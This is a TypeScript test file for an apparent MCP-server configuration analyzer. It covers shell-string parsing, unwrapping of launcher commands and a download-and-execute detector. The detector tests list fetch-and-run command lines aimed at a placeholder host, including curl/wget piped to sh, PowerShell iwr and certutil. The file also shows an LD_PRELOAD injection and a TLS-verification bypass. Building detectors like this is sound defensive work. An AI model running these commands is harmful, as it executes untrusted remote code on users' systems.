import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { ServerEntry } from '../../../server/src/core/model';
import type { TreeNode } from '../../../server/src/core/tree';
import { shellCommands } from '../../../server/src/launch/shellCommands';
import { serverCommands, wrapperChain } from '../../../server/src/launch/effective';
import { invocationOf } from '../../../server/src/core/invocation';
import { downloadAndExecute } from '../../../server/src/launch/downloadExec';

const node: TreeNode = { type: 'string', offset: 0, length: 0 };
function server(command: string, args: string[] = []): ServerEntry {
  return {
    name: 's',
    nameNode: node,
    node,
    transport: 'stdio',
    command: { value: command, node },
    args: args.map((value) => ({ value, node })),
    env: [],
    headers: [],
    disabled: false,
  };
}
const words = (script: string, dialect: 'sh' | 'powershell' | 'cmd' = 'sh') =>
  shellCommands(script, dialect).map((c) => [...c.assignments.map((a) => a.text), ...c.words].join(' '));

test('shell strings split into simple commands: quotes, redirections, keywords, assignments', () => {
  assert.deepEqual(words('source ~/.nvm/nvm.sh && exec npx -y "pkg name" 2>&1 | tee /tmp/log'), ['source ~/.nvm/nvm.sh', 'npx -y pkg name', 'tee /tmp/log']);
  assert.deepEqual(words('LD_PRELOAD=/x.so node s.js > /dev/null; echo done'), ['LD_PRELOAD=/x.so node s.js', 'echo done']);
  assert.deepEqual(words('export A=1 B=2; node s.js'), ['A=1 B=2', 'node s.js']);
  assert.deepEqual(words("$env:A = '1'; & npx -y pkg", 'powershell'), ['A=1', 'npx -y pkg']);
  assert.deepEqual(words('@set A=1 & cd /d C:\\mcp && node s.js', 'cmd'), ['A=1', 'cd /d C:\\mcp', 'node s.js']);
  assert.equal(shellCommands('cd "$(git rev-parse --show-toplevel)"', 'sh')[0].dynamic, true);
  assert.equal(shellCommands('node "$HOME/s.js"', 'sh')[0].dynamic, false);
});

test('the server of a shell string is its last command that is not set-up; the others are kept', () => {
  const { main, others } = serverCommands(server('bash', ['-lc', 'cd /app && npm install -g acme && exec acme --stdio']));
  assert.equal(main?.program, 'acme');
  assert.deepEqual(
    others.map((o) => o.program),
    ['cd', 'npm'],
  );
  assert.equal(serverCommands(server('cmd', ['/s', '/c', 'npx -y pkg'])).main?.program, 'npx');
  assert.equal(serverCommands(server('pwsh', ['-Command', 'Set-Location C:\\mcp; node s.js'])).main?.program, 'node');
});

test('wrappers are looked through, keeping NAME=value apart; invocationOf is unchanged', () => {
  const env = serverCommands(server('/usr/bin/env', ['-i', 'NODE_TLS_REJECT_UNAUTHORIZED=0', 'nohup', 'nice', '-n', '5', 'npx', '-y', 'pkg'])).main!;
  assert.equal(env.program, 'npx');
  assert.deepEqual(
    env.assignments?.map((a) => a.value),
    ['NODE_TLS_REJECT_UNAUTHORIZED=0'],
  );
  assert.equal(invocationOf(server('env', ['A=1', 'npx', 'pkg']))?.program, 'env', 'the secret rules still read the command line as written');
  for (const [command, args, program] of [
    ['timeout', ['3600', 'uvx', 'pkg'], 'uvx'],
    ['wsl.exe', ['-d', 'Ubuntu', '--', 'npx', 'pkg'], 'npx'],
    ['sudo', ['-u', 'svc', '-E', 'node', 's.js'], 'node'],
    ['caffeinate', ['-i', 'npx', 'pkg'], 'npx'],
    ['env', ['-S', 'npx -y pkg'], 'npx'],
  ] as const) {
    assert.equal(serverCommands(server(command, [...args])).main?.program, program, `${command} ${args.join(' ')}`);
  }
  assert.deepEqual(
    wrapperChain(invocationOf(server('env', ['A=1', 'sudo', 'node', 's.js']))!).map((i) => i.program),
    ['env', 'sudo', 'node'],
  );
});

test('download-and-execute: a downloaded file run by a later command, not one passed as data', () => {
  assert.ok(downloadAndExecute('curl -fsSLo /tmp/i.sh https://x/i.sh && sh /tmp/i.sh'));
  assert.ok(downloadAndExecute('wget -O /tmp/mcp https://x/mcp && chmod +x /tmp/mcp && /tmp/mcp'));
  assert.ok(downloadAndExecute('curl -O https://x/server.js && node server.js'));
  assert.ok(downloadAndExecute('$(curl -fsSL https://x/run.sh)'));
  assert.ok(downloadAndExecute('iwr https://x/r.ps1 -OutFile $env:TEMP\\r.ps1; & $env:TEMP\\r.ps1', 'powershell'));
  assert.ok(downloadAndExecute('certutil -urlcache -split -f https://x/m.exe %TEMP%\\m.exe && %TEMP%\\m.exe', 'cmd'));
  assert.equal(downloadAndExecute('curl -so /tmp/c.json https://x/c.json && node server.js --config /tmp/c.json'), undefined);
  assert.equal(downloadAndExecute('V=$(curl -s https://x/version) && npx -y pkg@$V'), undefined);
});
